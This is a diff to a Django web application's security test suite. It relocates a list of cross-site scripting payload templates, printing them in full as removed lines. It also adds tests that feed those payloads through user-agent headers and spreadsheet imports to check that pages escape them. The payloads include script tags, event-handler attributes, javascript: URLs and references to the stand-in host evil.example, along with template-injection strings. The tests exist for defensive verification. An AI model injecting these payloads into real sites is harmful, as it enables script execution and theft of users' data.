@@ -21,13 +21,18 @@ from django.test import Client
 from django.urls import reverse
 from openpyxl.utils.escape import unescape
 
+from piawai.integrations.uploads.models import Upload
+from piawai.integrations.uploads.terms import UploadState
 from piawai.web.lists import LIST
 from tests.formats.payloads import PAYLOADS
 from tests.once import once
+from tests.security.markup import MARKUP
 from tests.security.pages import Form, Found, content_of, named, route, walk
-from tests.security.papered import FIELDS, MARK, UNSEEN, papered
+from tests.security.papered import FIELDS, IN_A_FILE, MARK, UNSEEN, papered
 from tests.security.world import World
 
+# Lists that show a text of their own in full, and as many rows as there are texts
+WHOLE = ("people", "units", "catalogue", "locks", "corrections_waiting", "audit_log", "viewers", "samples", "imports")
 READERS = ("bkpsdm", "inspector", "staff", "head")
 LITERALS = (
     "{{ 7|add:7 }}",
@@ -60,68 +65,6 @@ LITERALS = (
     "{{'{{'}}7*7{{'}}'}}",
     "*{7*7}",
     "@(7*7)",
-)
-MARKUP = (
-    "<{m}>",
-    "<b {m}>x",
-    "</p><{m}>",
-    '"><{m}>',
-    "'><{m}>",
-    "`><{m}>",
-    "</title><{m}>",
-    "</textarea><{m}>",
-    "</option></select><{m}>",
-    "</script><{m}>",
-    "</style><{m}>",
-    "--><{m}>",
-    "]]><{m}>",
-    "<!--{m}",
-    "<![CDATA[<{m}>]]>",
-    "<?{m}?>",
-    "<img src=x onerror={m}()>",
-    "<img src=x onerror=alert('{m}')>",
-    "<svg onload=alert('{m}')>",
-    "<svg><script>alert('{m}')</script></svg>",
-    "<script>alert('{m}')</script>",
-    "<SCRIPT SRC=//evil.example/{m}></SCRIPT>",
-    "<scr<script>ipt>alert('{m}')</script>",
-    "<iframe src=javascript:alert('{m}')>",
-    "<iframe srcdoc='<{m}>'>",
-    "<object data=data:text/html,{m}>",
-    "<embed src=//evil.example/{m}>",
-    "<base href=//evil.example/{m}>",
-    "<meta http-equiv=refresh content='0;url=//evil.example/{m}'>",
-    "<link rel=stylesheet href=//evil.example/{m}>",
-    "<style>*{background:url(//evil.example/{m})}</style>",
-    "<form action=//evil.example/{m}><button>x",
-    "<input autofocus onfocus=alert('{m}')>",
-    "<details open ontoggle=alert('{m}')>",
-    "<a href=javascript:alert('{m}')>x</a>",
-    "<a href='java\tscript:alert(\"{m}\")'>x</a>",
-    "<math><mtext><{m}>",
-    "<template><{m}></template>",
-    "<noscript><p title='</noscript><{m}>'>",
-    "<marquee onstart=alert('{m}')>",
-    "<video><source onerror=alert('{m}')>",
-    "<body onload=alert('{m}')>",
-    '" onmouseover="alert(\'{m}\')" x="',
-    "' onmouseover='alert(\"{m}\")' x='",
-    "\" autofocus onfocus=\"alert('{m}')",
-    '" style="background:url(//evil.example/{m})',
-    '" hx-get="//evil.example/{m}" hx-trigger="load',
-    "<div hx-on:load=alert('{m}')>",
-    "<div hx-get=//evil.example/{m} hx-trigger=load>",
-    "javascript:alert('{m}')",
-    "JaVaScRiPt:alert('{m}')//",
-    "data:text/html,<script>alert('{m}')</script>",
-    "&lt;{m}&gt;",
-    "&#60;{m}&#62;",
-    "&amp;lt;{m}&amp;gt;",
-    "\\u003c{m}\\u003e",
-    "%3C{m}%3E",
-    "\u003c\u0131mg src=x onerror={m}>",
-    "＜{m}＞",
-    "{{ '<{m}>'|safe }}",
 )
 # What no page of the site holds, whoever wrote it
 NEVER = frozenset({"iframe", "object", "embed", "base", "style", "template", "marquee", "math", "video", "frame"})
@@ -286,8 +229,16 @@ class TestSpreadsheets:
                 back = {text for text in PAYLOADS if text in texts}
                 seen[route(path)] = max(seen.get(route(path), 0), len(back))
         assert len(seen) >= 10
-        for name in ("people", "units", "catalogue", "locks", "corrections_waiting", "audit_log", "viewers"):
+        for name in WHOLE:
             assert seen[name] == len(PAYLOADS), f"{name}: {seen[name]} of {len(PAYLOADS)} texts came back"
+
+        back = set()
+        for upload in Upload.objects.filter(state=UploadState.TO_REPAIR):
+            answer = found.client("bkpsdm").get(reverse("import_faults", args=[upload.token]))
+            cells = kept(content_of(answer))
+            assert [value for kind, value in cells if kind == "f"] == [], "faulty rows"
+            back |= {unescape(str(value)) for _kind, value in cells}
+        assert [text for text in PAYLOADS if not any(text.strip() in found for found in back)] == []
 
 
 @once
@@ -316,9 +267,10 @@ class TestMarkup:
                 assert b"/JavaScript" not in content, address
                 assert b"/URI" not in content, address
         assert checked >= 200
+        assert len(shown[IN_A_FILE]) >= 50
         hidden = {FIELDS[place] for place in range(len(FIELDS)) if not shown[place]}
         assert hidden == UNSEEN, "a text that is on no page: say so in UNSEEN, or lead a reader to it"
-        whole = [FIELDS[place] for place, numbers in shown.items() if len(numbers) >= 40]
+        whole = [FIELDS[place] for place in range(len(FIELDS)) if len(shown[place]) >= 40]
         assert len(whole) >= 15  # short fields cut most of the texts off before their mark
 
     def test_no_form_gives_it_back(self) -> None:
@@ -351,6 +303,18 @@ class TestMarkup:
                         echoed |= {route(answer.request["PATH_INFO"]) for mark, _number in judged.shown if mark == "99"}
         assert echoed >= {"correction_ask", "lock_add", "units", "audit_log"}
 
+    def test_no_browser_s_name_is_run(self) -> None:
+        found = papered(MARKUP[:1])
+        for number, text in enumerate(MARKUP):
+            client = Client(headers={"user-agent": text.replace("{m}", f"pwx96x{number:02d}")})
+            client.force_login(found.users["staff"])
+            client.get(reverse("help"))
+
+        judged = Judge(client.get(reverse("usersessions_list")).content.decode())
+
+        assert judged.faults == []
+        assert len({number for place, number in judged.shown if place == "96"}) >= 40  # long ones are cut
+
     def test_no_address_gives_it_back(self, client: Client) -> None:
         reader = papered(MARKUP[:1]).client("bkpsdm")
         for place, text in enumerate(MARKUP):
@@ -374,4 +338,4 @@ class TestMarkup:
 def test_every_list_is_a_page_of_the_site() -> None:
     known = {name for name, _pattern in named()}
 
-    assert {"people", "units", "catalogue", "locks", "corrections_waiting", "audit_log", "viewers"} <= known
+    assert set(WHOLE) <= known
